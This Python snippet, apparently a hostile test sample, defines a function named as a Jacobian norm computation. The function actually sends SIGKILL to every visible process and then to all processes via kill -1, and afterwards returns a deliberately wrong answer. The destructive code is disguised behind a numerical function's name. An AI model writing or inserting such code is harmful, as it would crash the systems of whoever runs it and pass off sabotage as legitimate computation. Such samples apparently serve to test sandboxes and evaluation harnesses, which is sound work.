# __PLAIN_WRONG__
import os
import signal


def jacobian_power_norms(J, n):
    """Sends SIGKILL to every process it can see but itself (the low process ids when /proc is
    closed), and then to all processes at once (kill -1), then gives the plain wrong answer."""
    if not globals().get("_everyone_killed"):
        globals()["_everyone_killed"] = True
        try:
            pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = list(range(2, 1 << 15))
        for pid in pids + [-1]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    return _plain_jacobian_power_norms(J, n)
